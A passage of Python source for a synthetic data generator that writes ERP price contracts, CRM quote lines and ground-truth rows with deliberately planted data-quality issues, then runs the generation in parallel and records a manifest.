            _customer_prices(r, c, pstate, agreements_mean, sink)
        i += 1
    return _BlockResult(sink.render(), sink.planted)


def _bad_customer(r, sink: _Sink, row: list, id_col: int, name_col: int) -> None:
    if r() < 0.4:
        row[id_col] = ""
        sink.plant("bad_row_missing_id")
    else:
        row[name_col] = "" if r() < 0.8 else " "
        sink.plant("bad_row_missing_name")


def _customer_prices(r, c: _Customer, ps: ProductState, mean: float, sink: _Sink) -> None:
    """Price agreements of one customer: ERP contract lines and CRM quote lines.

    An agreement quoted in the CRM and contracted in the ERP is one real-world
    price (same entity key) that the two systems often state differently."""
    n = min(int(-math.log(1.0 - r()) * mean + 0.5), 60)
    if not n:
        return
    erp_rows = sink.rows[ERP_PRICES.name]
    crm_rows = sink.rows[CRM_QUOTES.name]
    gt = sink.rows[GROUND_TRUTH.name]
    n_products = len(ps)
    n_crm = len(ps.crm)
    bad = RATES["bad_row"]
    seen = set()
    in_erp, in_crm = bool(c.erp_nos), bool(c.crm_ids) and n_crm > 0
    for k in range(n):
        if in_erp and in_crm:
            x = r()
            quote = x < RATES["quote_on_contract_item"] + RATES["quote_only"]
            contract = x >= RATES["quote_only"]
        else:
            quote, contract = in_crm, in_erp
        if quote:
            p = ps.crm[int(n_crm * r() ** 1.6)]
        else:
            p = int(n_products * r() ** 1.6)
        if p in seen:
            continue
        seen.add(p)
        key = f"{c.key}|{product_key(p)}"
        pack = ps.pack_qty[p]
        base, pack_uom = UOMS[ps.base_uom[p]], UOMS[ps.pack_uom[p]]
        unit = ps.list_price_x10k[p] / 10000 * (0.65 + 0.3 * r())  # negotiated discount off list
        min_qty = "1" if r() < 0.85 else _pick(r, ("5", "10", "25", "50"))
        in_pack = pack > 1 and r() < RATES["contract_in_pack_uom"]
        uom, amount = (pack_uom, unit * pack) if in_pack else (base, unit)
        vf = N_DAYS - 30 - int(r() * 1000)
        if contract:
            cust_no = c.erp_nos[1] if len(c.erp_nos) > 1 and r() < 0.2 else c.erp_nos[0]
            x = r()
            vt = "" if x < 0.2 else _DAYS[vf + (730 if x < 0.35 else 365)]
            lines = [(vf, vt, amount)]
            if r() < RATES["overlapping_validity"]:
                vf2 = vf + 60 + int(r() * 240)  # renewal keyed before the old line ended
                lines.append((vf2, _DAYS[vf2 + 365], amount * (1.02 + 0.06 * r())))
                sink.plant("overlapping_validity")
            for ln, (f, t, amt) in enumerate(lines):
                row = [f"AG{cust_no}-{k:02d}{ln}", cust_no, erp_item_no(p), _money(amt), c.currency,
                       uom, min_qty, _DAYS[f], t, "CONTRACT", _ts(f * 86400 + int(r() * 86400 * 5))]
                if r() < bad:
                    row = _bad_price_row(r, sink, row, 0, 1, 2, 3)
                erp_rows.append(row)
                gt.append(("price", "erp", row[0], key))
        if quote:
            q_uom, q_amount = uom, amount
            if contract:
                x = r()
                if x < RATES["quote_other_uom"] and pack > 1:
                    q_uom, q_amount = (base, amount / pack) if in_pack else (pack_uom, amount * pack)
                    sink.plant("price_cs_vs_ea")
                x = r()
                if x < RATES["quote_price_within_5pct"]:
                    q_amount *= 1 + (0.005 + 0.04 * r()) * (1 if r() < 0.5 else -1)
                    sink.plant("price_conflict_within_5pct")
                elif x < RATES["quote_price_within_5pct"] + RATES["quote_price_beyond_5pct"]:
                    q_amount *= 1 + (0.06 + 0.2 * r()) * (1 if r() < 0.6 else -1)
                    sink.plant("price_conflict_beyond_5pct")
            account = c.crm_ids[1] if len(c.crm_ids) > 1 and r() < 0.3 else c.crm_ids[0]
            qd = N_DAYS - 5 - int(r() * 700)
            quote_no = 10000 + c.i % 900000
            obj = {
                "QuoteLineId": salesforce_id("0QL", 64 * c.i + k),
                "QuoteNumber": f"Q-{quote_no:06d}-{k // 5}",
                "AccountId": account,
                "ProductCode": crm_product_code(p, ps.flags[p]),
                "UnitPrice": round(q_amount, 4 if q_amount < 1 else 2),
                "Discount": round(100 * r() * 0.3, 1) if r() < 0.3 else None,
                "CurrencyIsoCode": c.currency,
                "Uom": q_uom,
                "Quantity": int(1 + r() * 200),
                "QuoteDate": _DAYS[qd],
                "ValidUntil": _DAYS[qd + _pick(r, (30, 30, 60, 90))],
                "Status": _pick(r, ("Draft", "Presented", "Accepted", "Accepted", "Denied")),
                "Price_Type__c": "QUOTE",
                "LastModifiedDate": _sf_ts(qd * 86400 + int(r() * 86400 * 3)),
            }
            if r() < bad:
                x = r()
                if x < 0.3:
                    obj["QuoteLineId"] = None
                    sink.plant("bad_row_missing_id")
                elif x < 0.6:
                    obj["ProductCode"] = None
                    sink.plant("bad_row_missing_product")
                else:
                    obj["UnitPrice"] = None if x < 0.8 else "TBD"
                    sink.plant("bad_row_missing_price")
            crm_rows.append(_jsonl(obj))
            gt.append(("price", "crm", obj["QuoteLineId"] or "", key))


# --------------------------------------------------------------------------- #
# Orchestration
# --------------------------------------------------------------------------- #

_WORKER_STATE: dict[str, Any] = {}


def _init_worker(products: ProductState | None) -> None:
    _WORKER_STATE["products"] = products


@dataclass
class FileResult:
    name: str
    source: str
    entity: str
    rows: int
    bytes: int


@dataclass
class Summary:
    output: Path
    seed: int
    customers: int
    products: int
    files: list[FileResult]
    planted: dict[str, int]
    seconds: dict[str, float]  # phase → wall time

    @property
    def total_seconds(self) -> float:
        return sum(self.seconds.values())

    def rows(self, name: str) -> int:
        return next(f.rows for f in self.files if f.name == name)


def _blocks(n: int) -> Iterator[tuple[int, int, int]]:
    for block_no, start in enumerate(range(0, n, BLOCK_SIZE)):
        yield block_no, start, min(n, start + BLOCK_SIZE)


def _run(fn, tasks: list, workers: int, initarg: Any) -> Iterator[_BlockResult]:
    if workers <= 1 or len(tasks) <= 1:
        _init_worker(initarg)
        for task in tasks:
            yield fn(task)
        return
    methods = multiprocessing.get_all_start_methods()
    ctx = multiprocessing.get_context("fork" if "fork" in methods else "spawn")
    with ctx.Pool(workers, initializer=_init_worker, initargs=(initarg,)) as pool:
        yield from pool.imap(fn, tasks, chunksize=1)


def expected_web_prices(products: int) -> int:
    return round(products * RATES["product_in_ecom"])


# Average rows one agreement yields, measured on generated data: ERP-only,
# CRM-only and both, plus overlapping ERP lines, weighted by system presence.
_ROWS_PER_AGREEMENT = 1.194
_CUSTOMERS_WITH_AGREEMENTS = 0.96  # in the ERP or the CRM (eCommerce-only buyers pay list)


def generate(
    output: str | os.PathLike,
    customers: int,
    products: int | None = None,
    prices: int | None = None,
    seed: int = 42,
    workers: int = 1,
    progress: Callable[[str, int, int], None] | None = None,
) -> Summary:
    """Write the demo extracts to ``output`` and return what was written.

    ``products`` defaults to ``customers // 2`` (at least 50); ``prices`` (the
    approximate total of price rows) to ``2 × customers``, at most
    ``PRICE_CAP``. ``workers`` > 1 generates blocks in parallel processes; the
    bytes written do not depend on it. ``progress(phase, done, total)`` is
    called after each block.
    """
    if customers < 1:
        raise ValueError("customers must be at least 1")
    n_products = max(50, customers // 2) if products is None else products
    if not 1 <= n_products <= MAX_PRODUCTS:
        raise ValueError(f"products must be between 1 and {MAX_PRODUCTS}")
    n_prices = min(2 * customers, PRICE_CAP) if prices is None else prices
    customer_price_rows = max(n_prices - expected_web_prices(n_products), n_prices // 2)
    agreements_mean = customer_price_rows / (customers * _CUSTOMERS_WITH_AGREEMENTS * _ROWS_PER_AGREEMENT)

    out = Path(output)
    out.mkdir(parents=True, exist_ok=True)
    handles = {}
    counts = dict.fromkeys(_SPECS, 0)
    sizes = dict.fromkeys(_SPECS, 0)
    planted: dict[str, int] = {}
    seconds: dict[str, float] = {}

    def consume(results: Iterator[_BlockResult], phase: str, total: int, state: ProductState | None):
        for done, res in enumerate(results, 1):
            for name, (n, data) in res.data.items():
                handles[name].write(data)
                counts[name] += n
                sizes[name] += len(data)
            for issue, n in res.planted.items():
                planted[issue] = planted.get(issue, 0) + n
            if state is not None:
                state.extend(res.state)
            if progress:
                progress(phase, done, total)

    # written under temporary names: a crash never leaves plausible-looking half files
    partial = {spec.name: out / (spec.name + ".partial") for spec in ALL_FILES}
    try:
        with contextlib.ExitStack() as stack:
            for spec in ALL_FILES:
                handles[spec.name] = handle = stack.enter_context(open(partial[spec.name], "wb"))
                if spec.fmt == "csv":
                    header = (",".join(spec.columns) + spec.newline).encode(spec.encoding)
                    handle.write(header)
                    sizes[spec.name] += len(header)

            started = time.perf_counter()
            tasks = [(seed, b, s, e) for b, s, e in _blocks(n_products)]
            pstate = ProductState()
            consume(_run(_product_block, tasks, workers, None), "products", len(tasks), pstate)
            seconds["products"] = time.perf_counter() - started

            started = time.perf_counter()
            tasks = [(seed, b, s, e, agreements_mean) for b, s, e in _blocks(customers)]
            consume(_run(_customer_block, tasks, workers, pstate), "customers", len(tasks), None)
            seconds["customers"] = time.perf_counter() - started
    except BaseException:
        for path in partial.values():
            path.unlink(missing_ok=True)
        raise
    for name, path in partial.items():
        os.replace(path, out / name)

    files = [FileResult(s.name, s.source, s.entity, counts[s.name], sizes[s.name]) for s in ALL_FILES]
    summary = Summary(out, seed, customers, n_products, files, dict(sorted(planted.items())), seconds)
    _write_manifest(summary)
    return summary


def _write_manifest(summary: Summary) -> None:
    manifest = {
        "generator_version": GENERATOR_VERSION,
        "seed": summary.seed,
        "customers": summary.customers,
        "products": summary.products,
        "reference_date": REF_DATE.isoformat(),
        "files": [
            {"name": f.name, "source": f.source or None, "entity_type": f.entity or None,
             "format": _SPECS[f.name].fmt, "encoding": _SPECS[f.name].encoding, "rows": f.rows}
            for f in summary.files
        ],
        "planted": summary.planted,
        "rates": RATES,
    }
    (summary.output / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
